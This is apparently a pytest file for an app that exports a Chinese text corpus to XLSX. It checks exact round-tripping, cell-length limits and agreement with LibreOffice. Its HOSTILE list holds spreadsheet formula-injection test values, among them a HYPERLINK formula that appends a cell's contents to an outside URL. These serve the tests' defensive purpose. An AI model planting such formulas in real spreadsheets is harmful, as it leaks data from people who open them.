"""XLSX: the CSV's rows in a workbook that opens with Chinese intact; every cell is the
corpus's text exactly (string cells, never formulas); LibreOffice reads the same cells."""

from __future__ import annotations

import csv
import itertools
import os
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.domain.export import ExportError, export_corpus
from app.domain.export import xlsx as xlsx_mod
from app.domain.export.csvfile import COLUMNS, entry_row
from app.domain.export.jsonl import read_jsonl
from app.domain.export.xlsx import ooxml_text, plain_text, read_xlsx

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "+1",
    "-1956年",
    "@SUM(A1)",
    "＝SUM(A1)",
    "\t=1+1",
    "'=x",
    "含\x00空\x01字\x0b符\x1b",
    "_x0041_ 不是 A",
    "普通文本",
    "",
]


def _jsonl_cells(obj: dict) -> dict[str, str | int]:
    """An entry of the JSONL export as the spreadsheet's columns (lists one per line)."""
    images = obj["images"]
    return {
        "id": obj["id"],
        "seq": obj["seq"],
        "title": obj["title"],
        "body": obj["body"],
        "authors": "\n".join(obj["authors"]),
        "tags": "\n".join(obj["tags"]),
        "photos": "\n".join(i["path"] for i in images),
        "captions": "\n".join(i["caption"] for i in images),
        "photographers": "\n".join("、".join(i["photographers"]) for i in images),
        "status": obj["status"],
        "source_file": obj["source"]["file"] or "",
        "source_line": obj["source"]["line"],
    }


def test_sample_cells_equal_the_jsonl(sample_corpus, tmp_path):
    out = tmp_path / "x.xlsx"
    report = export_corpus(sample_corpus, "xlsx", out)
    export_corpus(sample_corpus, "jsonl", tmp_path / "x.jsonl")
    rows = read_xlsx(out)
    assert len(rows) == 17 == report.records
    expected = [_jsonl_cells(o) for o in read_jsonl(tmp_path / "x.jsonl")]
    assert rows == expected
    assert rows[0]["title"].startswith("市总工会下发")
    ws = load_workbook(out, read_only=True)["entries"]
    assert [c.value for c in next(ws.iter_rows(max_row=1))] == list(COLUMNS)


def test_hostile_text_is_string_cells_and_reads_back_exactly(builders, sample_corpus, tmp_path):
    values = itertools.cycle(HOSTILE)

    def hostile(e):
        return replace(e, title=next(values), body=next(values), tags=(next(values),))

    edited = builders.entries(sample_corpus, hostile)
    out = tmp_path / "h.xlsx"
    export_corpus(edited, "xlsx", out)
    rows = read_xlsx(out)
    from app.domain.export.common import ExportContext

    ctx = ExportContext(edited)
    assert rows == [dict(zip(COLUMNS, entry_row(ctx, e), strict=True)) for e in ctx.entries]
    # Nothing is a formula; formula-looking text carries the quote-prefix flag.
    wb = load_workbook(out)
    cells = [c for row in wb["entries"].iter_rows(min_row=2) for c in row]
    assert all(c.data_type in ("s", "n") for c in cells if c.value is not None)
    flagged = {plain_text(c.value) for c in cells if c.quotePrefix}
    assert {"+1", "-1956年", "@SUM(A1)", "＝SUM(A1)", "\t=1+1", "'=x"} <= flagged
    assert "普通文本" not in flagged
    with zipfile.ZipFile(out) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_escapes_round_trip():
    for value in [*HOSTILE, "_x005F_", "a_x12_b", "_X0041_"]:
        assert plain_text(ooxml_text(value)) == value
    assert ooxml_text("\x00") == "_x0000_"
    assert ooxml_text("_x0041_") == "_x005F_x0041_"


def test_a_lone_surrogate_stops_the_export(builders, sample_corpus, tmp_path):
    bad = builders.entries(
        sample_corpus, lambda e: replace(e, body="坏\udc80") if e.number == 2 else e
    )
    out = tmp_path / "s.xlsx"
    with pytest.raises(ExportError, match="lone surrogate"):
        export_corpus(bad, "xlsx", out)
    assert not out.exists()


def test_a_cell_longer_than_xlsx_holds_is_cut_visibly_and_reported(
    builders, sample_corpus, tmp_path
):
    long = "长" * 40_000
    edited = builders.entries(
        sample_corpus, lambda e: replace(e, body=long) if e.number == 1 else e
    )
    out = tmp_path / "l.xlsx"
    report = export_corpus(edited, "xlsx", out)
    body = read_xlsx(out)[0]["body"]
    assert len(body) == xlsx_mod.MAX_CELL
    assert body.startswith("长" * 32_000)
    assert body.endswith("[…cut: the text has 40,000 characters; see the CSV or JSONL export]")
    assert any("entry 1: body has 40,000 characters" in w for w in report.warnings)
    # The cut never splits an escape: a body of control characters reads back whole ones.
    controls = builders.entries(
        sample_corpus, lambda e: replace(e, body="\x01" * 10_000) if e.number == 1 else e
    )
    export_corpus(controls, "xlsx", out)
    body = read_xlsx(out)[0]["body"]
    assert set(body.split(" […cut")[0]) == {"\x01"}


def test_more_entries_than_rows_is_refused(sample_corpus, tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_mod, "MAX_ROWS", 10)
    out = tmp_path / "big.xlsx"
    with pytest.raises(ExportError, match="at most 9 entries"):
        export_corpus(sample_corpus, "xlsx", out)
    assert not out.exists()


def test_the_check_counts_rows(sample_corpus, tmp_path):
    out = tmp_path / "x.xlsx"
    export_corpus(sample_corpus, "xlsx", out)
    xlsx_mod.verify_xlsx(out, 17)
    with pytest.raises(ExportError, match="17 rows for 18 entries"):
        xlsx_mod.verify_xlsx(out, 18)
    (tmp_path / "bad.xlsx").write_bytes(b"not a zip")
    with pytest.raises(ExportError, match="XLSX check failed"):
        xlsx_mod.verify_xlsx(tmp_path / "bad.xlsx", 0)


# -- LibreOffice, when it is installed ------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# Comma, double quote, UTF-8 (76), from line 1; on export: quote every text cell.
UTF8_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false"


def _libreoffice_csv(path: Path, tmp_path: Path) -> list[list[str]]:
    """``path`` converted to CSV by LibreOffice headless, read back as rows."""
    profile = tmp_path / "lo-profile"
    outdir = tmp_path / "lo-out"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            UTF8_CSV,
            "--outdir",
            str(outdir),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    (converted,) = outdir.glob("*.csv")
    with open(converted, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_every_cell_as_the_jsonl_has_it(builders, sample_corpus, tmp_path):
    values = itertools.cycle(HOSTILE)
    # The sample, plus hostile titles in a few entries (formula-looking, control characters).
    edited = builders.entries(
        sample_corpus, lambda e: replace(e, title=next(values)) if e.number > 10 else e
    )
    out = tmp_path / "x.xlsx"
    export_corpus(edited, "xlsx", out)
    export_corpus(edited, "jsonl", tmp_path / "x.jsonl")
    rows = _libreoffice_csv(out, tmp_path)
    assert rows[0] == list(COLUMNS)
    expected = [_jsonl_cells(o) for o in read_jsonl(tmp_path / "x.jsonl")]
    assert len(rows) - 1 == len(expected) == 17
    for got, want in zip(rows[1:], expected, strict=True):
        assert got == [str(want[c]) for c in COLUMNS]
